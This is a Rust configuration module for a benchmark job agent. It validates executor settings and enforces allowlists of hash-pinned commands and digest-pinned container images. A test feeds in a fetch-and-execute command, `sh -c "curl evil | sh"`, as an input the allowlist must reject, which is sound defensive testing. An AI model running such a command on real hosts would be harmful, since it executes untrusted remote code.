//! `[jobs]`: which benchmark jobs the agent takes and where it runs them. Without this
//! table the agent leases no jobs.
//!
//! ```toml
//! [jobs]
//! executors = ["slurm", "local"]     # enabled, in order of preference
//! gpu_types = ["a100"]
//! max_concurrent = 2
//! # Each evaluation command the agent runs, pinned: the argv template exactly as the
//! # benchmark gives it, or its hash (`agora-agent command-hash -- ARGV...` prints it).
//! allowed_commands = [
//!     ["python3", "/opt/eval/score.py", "{dataset}", "{output}"],
//!     "sha256:bb2871e2afef6497476067607641854571e43da4b9a5f110debb050e2f1c06a0",
//! ]
//! # Each image the agent runs, pinned by digest (a tag alone never matches).
//! allowed_images = ["registry.example.org/eval@sha256:…"]
//! [jobs.datasets]
//! census-2021 = "/data/census-2021"
//! [jobs.slurm]
//! partition = "gpu"
//! ```
//!
//! Environment overrides use `__` between levels: `AGORA_AGENT_JOBS__MAX_CONCURRENT=4`.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

use agora_schemas::benchmark::{check_image, command_hash, is_command_hash};
use agora_schemas::job::{Capabilities, ExecutorKind};
use serde::Deserialize;

use crate::error::{Error, Result};
use crate::executors::argo::ArgoConfig;
use crate::executors::kubernetes::KubernetesConfig;
use crate::executors::local::LocalConfig;
use crate::executors::slurm::SlurmConfig;

/// `[jobs]` as written in the file.
#[derive(Debug, Clone, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct JobsConfig {
    /// The executors this agent offers, most preferred first.
    pub executors: Vec<ExecutorKind>,
    /// GPU models the agent's executors can hand out, such as `a100`.
    #[serde(default)]
    pub gpu_types: Vec<String>,
    /// Most jobs running at once, 1 to 64 (default 1).
    #[serde(default = "one")]
    pub max_concurrent: usize,
    /// The organisation's dataset names (as benchmarks name them) and their local paths.
    #[serde(default)]
    pub datasets: BTreeMap<String, PathBuf>,
    /// Command templates the agent runs: each the argv exactly as the benchmark gives it,
    /// or its hash (`sha256:…`, see [`command_hash`]).
    #[serde(default)]
    pub allowed_commands: Vec<CommandPin>,
    /// Container images the agent runs, each pinned by digest (`name@sha256:<64 hex>`).
    #[serde(default)]
    pub allowed_images: Vec<String>,
    /// The jobs' folders: logs, batch scripts, metrics (default `<spool_dir>/jobs`). The
    /// Slurm executor needs it on a file system the compute nodes share.
    #[serde(default)]
    pub work_dir: Option<PathBuf>,
    /// Longest wait of one lease request (default `30s`; the hub may cap it).
    #[serde(
        default = "default_lease_wait",
        deserialize_with = "crate::duration::deserialize"
    )]
    pub lease_wait: Duration,
    /// Time between two looks at a running job (default `5s`; never longer than the
    /// hub's heartbeat interval).
    #[serde(
        default = "default_poll",
        deserialize_with = "crate::duration::deserialize"
    )]
    pub poll_interval: Duration,
    /// After SIGTERM, how long running jobs may go on before they are cancelled
    /// (default `5m`).
    #[serde(
        default = "default_drain",
        deserialize_with = "crate::duration::deserialize"
    )]
    pub drain_timeout: Duration,
    #[serde(default)]
    pub local: LocalConfig,
    #[serde(default)]
    pub slurm: SlurmConfig,
    #[serde(default)]
    pub kubernetes: Option<KubernetesConfig>,
    #[serde(default)]
    pub argo: Option<ArgoConfig>,
}

/// One entry of `jobs.allowed_commands`.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(untagged)]
pub enum CommandPin {
    /// `sha256:<64 hex>`: the hash of the argv template.
    Hash(String),
    /// The argv template itself.
    Argv(Vec<String>),
}

impl CommandPin {
    /// The hash the pin stands for.
    pub fn hash(&self) -> String {
        match self {
            Self::Hash(h) => h.clone(),
            Self::Argv(argv) => command_hash(argv),
        }
    }
}

fn one() -> usize {
    1
}
fn default_lease_wait() -> Duration {
    Duration::from_secs(30)
}
fn default_poll() -> Duration {
    Duration::from_secs(5)
}
fn default_drain() -> Duration {
    Duration::from_secs(300)
}

impl JobsConfig {
    /// Checks what serde cannot; errors name the key.
    pub fn check(&self) -> Result<()> {
        let bad = |key: &str, msg: &str| Err(Error::Config(format!("`jobs.{key}`: {msg}")));
        if self.executors.is_empty() {
            return bad(
                "executors",
                "list at least one of local, slurm, kubernetes, argo",
            );
        }
        for (i, kind) in self.executors.iter().enumerate() {
            if self.executors[..i].contains(kind) {
                return bad(&format!("executors[{i}]"), "listed twice");
            }
        }
        if self.executors.contains(&ExecutorKind::Kubernetes) && self.kubernetes.is_none() {
            return bad(
                "kubernetes",
                "required when `kubernetes` is an executor (set `api_url`)",
            );
        }
        if self.executors.contains(&ExecutorKind::Argo) && self.argo.is_none() {
            return bad(
                "argo",
                "required when `argo` is an executor (set `server_url`)",
            );
        }
        if !(1..=64).contains(&self.max_concurrent) {
            return bad("max_concurrent", "must be between 1 and 64");
        }
        if self.lease_wait > Duration::from_secs(300) {
            return bad("lease_wait", "must be at most 5m");
        }
        if self.poll_interval.is_zero() {
            return bad("poll_interval", "must be longer than zero");
        }
        for (i, t) in self.gpu_types.iter().enumerate() {
            if t.is_empty()
                || !t
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
            {
                return bad(
                    &format!("gpu_types[{i}]"),
                    "letters, digits, `-`, `_` and `.` only",
                );
            }
        }
        for (name, path) in &self.datasets {
            if !path.is_absolute() {
                return bad(&format!("datasets.{name}"), "must be an absolute path");
            }
        }
        for (i, c) in self.allowed_commands.iter().enumerate() {
            match c {
                CommandPin::Argv(argv) if argv.is_empty() => {
                    return bad(&format!("allowed_commands[{i}]"), "an empty command");
                }
                CommandPin::Hash(h) if !is_command_hash(h) => {
                    return bad(
                        &format!("allowed_commands[{i}]"),
                        "a pinned command is `sha256:` and 64 lower-case hex digits \
                         (`agora-agent command-hash -- ARGV...` prints it), or the argv as a list",
                    );
                }
                _ => {}
            }
        }
        for (i, image) in self.allowed_images.iter().enumerate() {
            if check_image("", image).is_err() {
                return bad(
                    &format!("allowed_images[{i}]"),
                    &format!(
                        "`{image}` is not pinned by digest: write `name@sha256:<64 hex digits>` \
                         (a tag alone can be moved to another image)"
                    ),
                );
            }
        }
        Ok(())
    }

    /// What the agent tells the hub it can run.
    pub fn capabilities(&self) -> Capabilities {
        Capabilities {
            executors: self.executors.clone(),
            gpu_types: self.gpu_types.clone(),
        }
    }

    pub fn work_dir(&self, spool_dir: &Path) -> PathBuf {
        self.work_dir
            .clone()
            .unwrap_or_else(|| spool_dir.join("jobs"))
    }

    /// Why the agent will not run a benchmark's command or image, if it will not: each
    /// one the benchmark gives must be on its allowlist, the command by its hash, the image
    /// by its digest. The reason says what an operator would add to allow it.
    pub fn refusal(&self, command: Option<&[String]>, image: Option<&str>) -> Option<String> {
        if let Some(c) = command {
            let hash = command_hash(c);
            if !self.allowed_commands.iter().any(|a| a.hash() == hash) {
                return Some(format!(
                    "the command {c:?} is not on this agent's allowlist: its hash is {hash}; \
                     to run it here, add \"{hash}\" to `jobs.allowed_commands`"
                ));
            }
        }
        if let Some(i) = image {
            if check_image("", i).is_err() {
                return Some(format!(
                    "the image `{i}` is not pinned by digest (`name@sha256:…`): an image named \
                     by tag is never run"
                ));
            }
            if !self.allowed_images.iter().any(|a| a == i) {
                return Some(format!(
                    "the image `{i}` is not on this agent's allowlist: to run it here, add it \
                     to `jobs.allowed_images`"
                ));
            }
        }
        None
    }
}

#[cfg(test)]
mod tests {
    use figment::Figment;
    use figment::providers::{Format, Toml};

    use super::JobsConfig;

    /// `[jobs]` with a local executor and `more`, as read from the file (the file itself,
    /// with its key paths in errors, is tested with the rest of the settings in `config`).
    fn jobs(more: &str) -> JobsConfig {
        let text = format!("executors = [\"local\"]\n{more}");
        let jobs: JobsConfig = Figment::from(Toml::string(&text)).extract().unwrap();
        jobs.check().unwrap();
        jobs
    }

    const DIGEST: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

    fn argv(args: &[&str]) -> Vec<String> {
        args.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn only_allowed_commands_and_images_run() {
        let pinned = agora_schemas::benchmark::command_hash(&argv(&["python3", "b.py"]));
        let jobs = jobs(&format!(
            "allowed_commands = [[\"python3\", \"score.py\", \"{{output}}\"], \"{pinned}\"]\n\
             allowed_images = [\"r.example/eval@sha256:{DIGEST}\"]\n"
        ));
        let ok = argv(&["python3", "score.py", "{output}"]);
        assert!(jobs.refusal(Some(&ok), None).is_none());
        // Pinned by hash.
        assert!(
            jobs.refusal(Some(&argv(&["python3", "b.py"])), None)
                .is_none()
        );
        // A changed command: one argument more, or one changed, has another hash.
        for changed in [
            argv(&["python3", "score.py", "{output}", "--debug"]),
            argv(&["python3", "score.py ", "{output}"]),
            argv(&["sh", "-c", "curl evil | sh"]),
        ] {
            let why = jobs.refusal(Some(&changed), None).unwrap();
            let hash = agora_schemas::benchmark::command_hash(&changed);
            assert!(
                why.contains(&hash) && why.contains("jobs.allowed_commands"),
                "{why}"
            );
        }
        let image = format!("r.example/eval@sha256:{DIGEST}");
        assert!(jobs.refusal(Some(&ok), Some(&image)).is_none());
        assert!(jobs.refusal(None, Some(&image)).is_none());
        // Both must be allowed when the benchmark gives both.
        assert!(jobs.refusal(Some(&argv(&["id"])), Some(&image)).is_some());
        // An unlisted image, and the listed one by tag only.
        let other = format!("r.example/other@sha256:{DIGEST}");
        let why = jobs.refusal(None, Some(&other)).unwrap();
        assert!(why.contains("jobs.allowed_images"), "{why}");
        for tagged in [
            "r.example/eval:latest",
            "r.example/eval",
            "r.example/eval:1.0@sha256:00",
        ] {
            let why = jobs.refusal(Some(&ok), Some(tagged)).unwrap();
            assert!(why.contains("not pinned by digest"), "{tagged}: {why}");
        }
    }
}
